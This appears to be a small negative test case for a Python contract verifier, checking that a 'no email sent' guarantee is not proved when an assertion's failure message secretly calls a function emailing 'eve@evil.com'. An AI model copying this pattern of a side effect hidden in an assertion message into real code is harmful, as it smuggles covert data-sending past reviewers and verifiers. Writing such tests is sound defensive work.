# not proved: an assertion that fails evaluates its message
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email, number


def told():
    send_email("eve@evil.com", "x")
    return "m"


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    assert number() > 0, told()
